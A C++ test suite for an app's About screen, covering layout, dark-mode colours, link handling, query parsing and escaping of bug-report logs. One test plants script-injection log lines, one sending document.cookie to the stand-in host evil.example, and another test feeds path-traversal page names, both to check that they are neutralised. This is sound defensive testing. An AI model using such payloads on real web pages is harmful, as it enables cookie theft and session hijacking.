#include "ToolkitTestSupport.h"

#include "foundation/BookCommon.h"
#include "foundation/LBDebugLog.h"
#include "foundation/ui/AboutViewControllerEx.h"
#include "platform/core/UserDefaults.h"
#include "platform/ui/NavigationController.h"
#include "platform/ui/RecordingURLOpener.h"

#include <algorithm>
#include <cmath>
#include <map>
#include <string>
#include <vector>

using namespace ui;
using toolkittest::ToolkitTest;

namespace {

// The contrast ratio of two "#RRGGBB" colours, as the accessibility
// guidelines count it (4.5 is what body text needs).
double contrastRatio(const std::string& a, const std::string& b) {
    auto luminance = [](const std::string& hex) {
        double rgb[3];
        for (int i = 0; i < 3; ++i) {
            const double c = std::stoi(hex.substr(1 + 2 * i, 2), nullptr, 16) / 255.0;
            rgb[i] = c <= 0.03928 ? c / 12.92 : std::pow((c + 0.055) / 1.055, 2.4);
        }
        return 0.2126 * rgb[0] + 0.7152 * rgb[1] + 0.0722 * rgb[2];
    };
    const double la = luminance(a), lb = luminance(b);
    return (std::max(la, lb) + 0.05) / (std::min(la, lb) + 0.05);
}

// The "#RRGGBB" that follows `key` in `html`, or "" where none does.
std::string colourAfter(const std::string& html, const std::string& key) {
    const size_t at = html.find(key);
    return at == std::string::npos ? "" : html.substr(at + key.size(), 7);
}

class Receiver : public AboutViewControllerExDelegate {
public:
    void receiveQuery(const std::map<std::string, std::string>& q) override { queries.push_back(q); }
    std::vector<std::map<std::string, std::string>> queries;
};

// The single-quoted strings of a script, as a script reader would cut them
// (backslash escapes kept), and whatever stands between them.
struct ScriptParts {
    std::vector<std::string> strings;
    std::string outside;
};
ScriptParts splitScript(const std::string& s) {
    ScriptParts p;
    bool in = false;
    std::string cur;
    for (size_t i = 0; i < s.size(); ++i) {
        char c = s[i];
        if (in) {
            if (c == '\\' && i + 1 < s.size()) {
                cur += c;
                cur += s[++i];
            } else if (c == '\'') {
                p.strings.push_back(cur);
                cur.clear();
                in = false;
            } else {
                cur += c;
            }
        } else if (c == '\'') {
            in = true;
        } else {
            p.outside += c;
        }
    }
    return p;
}

class AboutScreenTest : public ToolkitTest {
protected:
    void SetUp() override {
        ToolkitTest::SetUp();
        opener = RecordingURLOpener::install();
        home = std::make_shared<ViewController>();
        nav = std::make_shared<NavigationController>(home);
        window->setRootViewController(nav);
        driver->settle();
    }
    void TearDown() override {
        BookCommon::localizedSet(0);
        LBDebugLog::deleteInstance();
        sys::UserDefaults::standard().setBool(false, "enable_bookmarktest");
        ToolkitTest::TearDown();
    }
    std::shared_ptr<AboutViewControllerEx> open(std::optional<std::string> page = std::nullopt) {
        auto about = std::make_shared<AboutViewControllerEx>();
        about->setStartPage(page);
        about->setDelegate(receiver);
        nav->pushViewController(about, true);
        driver->advance(0.5);
        return about;
    }
    NavigationActionPolicy decide(AboutViewControllerEx& about, const std::string& url) {
        NavigationActionPolicy out = NavigationActionPolicy::Allow;
        bool answered = false;
        NavigationAction a;
        a.url = url;
        a.navigationType = NavigationType::LinkActivated;
        about.webViewDecidePolicyForNavigationAction(*about.webView(), a, [&](NavigationActionPolicy p) {
            out = p;
            answered = true;
        });
        EXPECT_TRUE(answered);
        driver->settle();
        return out;
    }

    std::shared_ptr<RecordingURLOpener> opener;
    std::shared_ptr<ViewController> home;
    std::shared_ptr<NavigationController> nav;
    std::shared_ptr<Receiver> receiver = std::make_shared<Receiver>();
};

}  // namespace

TEST_F(AboutScreenTest, AboutPageIsFilledInForTheAppearance) {
    // Opened from a screen with a tool bar, which the page hides.
    nav->setToolbarHidden(false, false);
    driver->settle();
    auto about = open();
    driver->advance(0.5);
    EXPECT_TRUE(nav->isToolbarHidden());
    EXPECT_EQ(about->title(), "About");
    // The page fills the screen between the bar and the home indicator.
    EdgeInsets safe = about->viewSafeAreaInsets();
    Rect v = about->view()->frame();
    EXPECT_GT(safe.top, 0);
    EXPECT_EQ(safe.bottom, window->safeAreaInsets().bottom);
    EXPECT_EQ(about->webView()->frame(), Rect(v.x(), v.y() + safe.top, v.width(), v.height() - safe.top - safe.bottom));
    EXPECT_EQ(about->webView()->title(), "About Leafbright");
    EXPECT_NE(about->webView()->URL().find("/html/about.html"), std::string::npos);
    std::string light = about->htmlForPage("about");
    EXPECT_NE(light.find("color: #000000; background-color: #FFFFFF"), std::string::npos);
    EXPECT_NE(light.find("a { color: #0000FF; }"), std::string::npos);
    EXPECT_NE(light.find("Version " LEAFBRIGHT_VERSION), std::string::npos);
    // No link leads to a web site that does not exist.
    EXPECT_EQ(light.find("leafbright.app"), std::string::npos);
    EXPECT_EQ(light.find("<V>"), std::string::npos);
    EXPECT_EQ(light.find("__LANG__"), std::string::npos);

    window->setUserInterfaceStyle(UserInterfaceStyle::Dark);
    std::string dark = about->htmlForPage("about");
    EXPECT_NE(dark.find("color: #FFFFFF; background-color: #333333"), std::string::npos);
    // Links read on either background.
    for (const std::string* page : {&light, &dark}) {
        const std::string link = colourAfter(*page, "a { color: "), background = colourAfter(*page, "background-color: ");
        ASSERT_EQ(link.size(), 7u);
        ASSERT_EQ(background.size(), 7u);
        EXPECT_GE(contrastRatio(link, background), 4.5) << link << " on " << background;
    }
}

TEST_F(AboutScreenTest, PageNamesStayInsideThePagesFolder) {
    auto about = open();
    EXPECT_EQ(about->htmlForPage("../lang/en.lproj/Localizable"), "");
    EXPECT_EQ(about->htmlForPage("/etc/hostname"), "");
    EXPECT_EQ(about->htmlForPage("no_such_page"), "");
    std::string before = about->webView()->URL();
    about->loadHtml("../../README");
    driver->settle();
    EXPECT_EQ(about->webView()->URL(), before);
}

TEST_F(AboutScreenTest, ProductAndLibrarySitesOpenInTheBrowser) {
    auto about = open();
    EXPECT_EQ(decide(*about, AboutViewControllerEx::kHomePageURL), NavigationActionPolicy::Cancel);
    EXPECT_EQ(decide(*about, AboutViewControllerEx::kGoogleDriveHelpURL), NavigationActionPolicy::Cancel);
    EXPECT_EQ(decide(*about, "https://smb.leafbright.app/docs/index.html"), NavigationActionPolicy::Cancel);
    EXPECT_EQ(decide(*about, "https://www.smb.leafbright.app/"), NavigationActionPolicy::Cancel);
    EXPECT_EQ(opener->opened, (std::vector<std::string>{AboutViewControllerEx::kHomePageURL,
                                                         AboutViewControllerEx::kGoogleDriveHelpURL,
                                                         "https://smb.leafbright.app/docs/index.html",
                                                         "https://www.smb.leafbright.app/"}));
    // Another page of the product's site is not one of the two addresses.
    EXPECT_EQ(decide(*about, "https://leafbright.app/other.html"), NavigationActionPolicy::Allow);
    EXPECT_EQ(opener->opened.size(), 4u);
}

TEST_F(AboutScreenTest, AboutLinkShowsTheUpdateNotesOfTheInterfaceLanguage) {
    auto about = open();
    // A real tap on the page's link.
    Rect r = about->webView()->rectForElement("a");
    ASSERT_FALSE(r.isNull());
    driver->tap(about->webView()->scrollView()->convertPointToWindow({r.x() + 4, r.y() + r.height() / 2}));
    driver->advance(0.2);
    EXPECT_NE(about->webView()->URL().find("/html/update_en.html"), std::string::npos);

    BookCommon::localizedSet(2);
    EXPECT_EQ(decide(*about, "file:///somewhere/about"), NavigationActionPolicy::Cancel);
    EXPECT_NE(about->webView()->URL().find("/html/update_ja.html"), std::string::npos);
    EXPECT_EQ(AboutViewControllerEx::updatePageForLanguage(3), "update_ko");
    EXPECT_EQ(AboutViewControllerEx::updatePageForLanguage(4), "update_zh-Hans");
    EXPECT_EQ(AboutViewControllerEx::updatePageForLanguage(5), "update_zh-Hant");
    EXPECT_EQ(AboutViewControllerEx::updatePageForLanguage(6), "update_en");
    EXPECT_EQ(AboutViewControllerEx::updatePageForLanguage(1), "update_en");
}

TEST_F(AboutScreenTest, SharedLinksReachTheDelegateOnlyWithNameAndLink) {
    auto about = open("gdrive_en");
    EXPECT_EQ(about->webView()->title(), "Shared Google Drive links");
    EXPECT_EQ(decide(*about, "file:///x/leafbrightui?name=Sample%20Shelf&link=https%3A%2F%2Fdrive.google.com%2Fa"),
              NavigationActionPolicy::Allow);
    ASSERT_EQ(receiver->queries.size(), 1u);
    EXPECT_EQ(receiver->queries[0].at("name"), "Sample Shelf");
    EXPECT_EQ(receiver->queries[0].at("link"), "https://drive.google.com/a");
    EXPECT_EQ(decide(*about, "file:///x/leafbrightui?name=Only"), NavigationActionPolicy::Allow);
    EXPECT_EQ(receiver->queries.size(), 1u);

    // The link on the page itself.
    Rect r = about->webView()->rectForElement("a");
    ASSERT_FALSE(r.isNull());
    driver->tap(about->webView()->scrollView()->convertPointToWindow({r.x() + 4, r.y() + r.height() / 2}));
    driver->advance(0.2);
    ASSERT_EQ(receiver->queries.size(), 2u);
    EXPECT_EQ(receiver->queries[1].at("link"), "https://drive.google.com/drive/folders/sample");
}

TEST_F(AboutScreenTest, QueryStringsAreSplitAndDecoded) {
    auto q = AboutViewControllerEx::dictionaryFromQueryString("x://h/p?a=1&b=two%20words&flag&c=x=y&%41=%4z#frag");
    EXPECT_EQ(q.size(), 4u);
    EXPECT_EQ(q["a"], "1");
    EXPECT_EQ(q["b"], "two words");
    EXPECT_EQ(q["c"], "x=y");
    EXPECT_EQ(q["A"], "%4z");
    EXPECT_FALSE(q.count("flag"));
    EXPECT_TRUE(AboutViewControllerEx::dictionaryFromQueryString("x://h/p").empty());
}

TEST_F(AboutScreenTest, BugReportFormGetsTheLogsAsPlainStrings) {
    sys::UserDefaults::standard().setBool(true, "enable_bookmarktest");
    LBDebugLog::deleteInstance();
    LBDebugLog::writeDebugLog("page 3'); document.location='https://evil.example/?'+document.cookie; ('", 0);
    LBDebugLog::writeDebugLog("back\\slash \"quote\" </script><script>alert(1)</script>", 0);
    auto about = open();
    about->webView()->loadHTMLString("<html><body><form></form></body></html>",
                                     std::string(AboutViewControllerEx::kBugReportURL) + "index.html");
    driver->advance(0.2);
    const auto& scripts = about->webView()->evaluatedScripts();
    ASSERT_FALSE(scripts.empty());
    const std::string& fill = scripts.back();
    ASSERT_EQ(fill.rfind("window.webViewCallback('", 0), 0u) << fill;
    ScriptParts parts = splitScript(fill);
    // Exactly three string arguments; nothing of the logs got out of them.
    ASSERT_EQ(parts.strings.size(), 3u) << fill;
    EXPECT_EQ(parts.outside, "window.webViewCallback( ,  , );");
    EXPECT_NE(parts.strings[0].find("OSVersion: 18.0"), std::string::npos);
    EXPECT_NE(parts.strings[0].find("LBVersion: " LEAFBRIGHT_VERSION), std::string::npos);
    EXPECT_NE(parts.strings[1].find("page 3\\'); document.location="), std::string::npos);
    EXPECT_EQ(parts.strings[1].find("</script>"), std::string::npos);
    EXPECT_NE(parts.strings[1].find("back\\\\slash \\\"quote\\\""), std::string::npos);
    // The lines are joined by the HTML line break.
    EXPECT_NE(parts.strings[1].find("\\x3Cbr\\x3E"), std::string::npos);

    // Any other page: no form to fill.
    size_t count = scripts.size();
    about->webView()->loadHTMLString("<html><body></body></html>", "https://leafbright.app/other.html");
    driver->advance(0.2);
    ASSERT_EQ(about->webView()->evaluatedScripts().size(), count + 1);  // only the address was asked
    EXPECT_EQ(about->webView()->evaluatedScripts().back(), "document.URL");
}

TEST_F(AboutScreenTest, ScriptStringsEscapeEveryBreakingCharacter) {
    EXPECT_EQ(AboutViewControllerEx::escapeForScriptString("a'b\"c\\d"), "a\\'b\\\"c\\\\d");
    EXPECT_EQ(AboutViewControllerEx::escapeForScriptString("1\n2\r3\t4"), "1\\n2\\r3\\t4");
    EXPECT_EQ(AboutViewControllerEx::escapeForScriptString(std::string("x\x01y", 3)), "x\\x01y");
    EXPECT_EQ(AboutViewControllerEx::escapeForScriptString("l\u2028p\u2029"), "l\\u2028p\\u2029");
    EXPECT_EQ(AboutViewControllerEx::escapeForScriptString("日本語"), "日本語");
    EXPECT_EQ(AboutViewControllerEx::bugReportScript("s", "d", "a"), "window.webViewCallback('s' , 'd' , 'a');");
    // Empty logs are named.
    sys::UserDefaults::standard().setBool(true, "enable_bookmarktest");
    LBDebugLog::deleteInstance();
    auto about = open();
    about->webView()->loadHTMLString("<html></html>", AboutViewControllerEx::kBugReportURL);
    driver->advance(0.2);
    ScriptParts parts = splitScript(about->webView()->evaluatedScripts().back());
    ASSERT_EQ(parts.strings.size(), 3u);
    EXPECT_EQ(parts.strings[1], "No-Errorlog");
}

TEST_F(AboutScreenTest, SnapshotOfTheAboutPageInTheDark) {
    gfx::TextEngine::Scope pango(std::make_shared<gfx::PangoTextEngine>());
    window->setUserInterfaceStyle(UserInterfaceStyle::Dark);
    auto about = open();
    driver->advance(0.3);
    ASSERT_TRUE(driver->snapshot(snapshotPath("about-dark.png")));
    Rect f = about->webView()->convertRectTo(about->webView()->bounds(), nullptr);
    auto bg = pixelAt(f.x() + 3, f.maxY() - 40);
    EXPECT_TRUE(near(bg, 0x33, 0x33, 0x33, 6)) << bg.r << "," << bg.g << "," << bg.b;
    // Under the home indicator too.
    bg = pixelAt(f.x() + 3, window->bounds().maxY() - 3);
    EXPECT_TRUE(near(bg, 0x33, 0x33, 0x33, 6)) << bg.r << "," << bg.g << "," << bg.b;
}

// An open page follows the appearance as every screen does: the page of
// ours shown (here the update notes it went on to) is filled in again in
// the new colours, scrolled where it was read; and back. A page from
// elsewhere keeps its own.
TEST_F(AboutScreenTest, AnOpenPageFollowsTheAppearanceWhereItWasRead) {
    // A window too low for the whole page.
    window->resize({320, 160});
    auto about = open();
    EXPECT_EQ(decide(*about, "https://leafbright.app/about"), NavigationActionPolicy::Cancel);
    driver->advance(0.3);
    ASSERT_NE(about->webView()->URL().find("/html/update_en.html"), std::string::npos);
    ScrollView* scroll = about->webView()->scrollView();
    const double down = std::min(40.0, scroll->contentSize().height - scroll->bounds().height());
    ASSERT_GT(down, 10) << "the whole page fits: nothing to scroll";
    scroll->setContentOffset({0, down});
    driver->advance(0.1);
    const Rect f = about->webView()->convertRectTo(about->webView()->bounds(), nullptr);
    auto pageAt = [&](double x, double y) {
        driver->settle();
        window->render();
        return pixelAt(x, y);
    };
    auto bg = pageAt(f.x() + 3, f.y() + 3);
    ASSERT_TRUE(near(bg, 0xFF, 0xFF, 0xFF)) << bg.r << "," << bg.g << "," << bg.b;

    window->setUserInterfaceStyle(UserInterfaceStyle::Dark);
    driver->advance(0.3);
    bg = pageAt(f.x() + 3, f.y() + 3);
    EXPECT_TRUE(near(bg, 0x33, 0x33, 0x33)) << "the page kept its light colours: " << bg.r << "," << bg.g << ","
                                            << bg.b;
    EXPECT_NE(about->webView()->URL().find("/html/update_en.html"), std::string::npos);
    EXPECT_EQ(scroll->contentOffset().y, down);

    window->setUserInterfaceStyle(UserInterfaceStyle::Light);
    driver->advance(0.3);
    bg = pageAt(f.x() + 3, f.y() + 3);
    EXPECT_TRUE(near(bg, 0xFF, 0xFF, 0xFF)) << "the page kept its dark colours: " << bg.r << "," << bg.g << ","
                                            << bg.b;
    EXPECT_EQ(scroll->contentOffset().y, down);

    // A page from elsewhere that the screen went on to stays as it is.
    about->webView()->loadHTMLString("<html><body>Feedback</body></html>", AboutViewControllerEx::kBugReportURL);
    driver->advance(0.3);
    window->setUserInterfaceStyle(UserInterfaceStyle::Dark);
    driver->advance(0.3);
    EXPECT_EQ(about->webView()->URL(), AboutViewControllerEx::kBugReportURL);
}

TEST_F(AboutScreenTest, LinksAreDecidedOnlyWhileTheScreenIsShown) {
    auto about = open();
    EXPECT_EQ(about->webView()->navigationDelegate(), about.get());
    auto cover = std::make_shared<ViewController>();
    nav->pushViewController(cover, true);
    driver->advance(0.5);
    EXPECT_EQ(about->webView()->navigationDelegate(), nullptr);
    nav->popViewController(true);
    driver->advance(0.5);
    EXPECT_EQ(about->webView()->navigationDelegate(), about.get());
    std::weak_ptr<AboutViewControllerEx> weak = about;
    nav->popViewController(true);
    driver->advance(0.5);
    about.reset();
    EXPECT_TRUE(weak.expired());
}
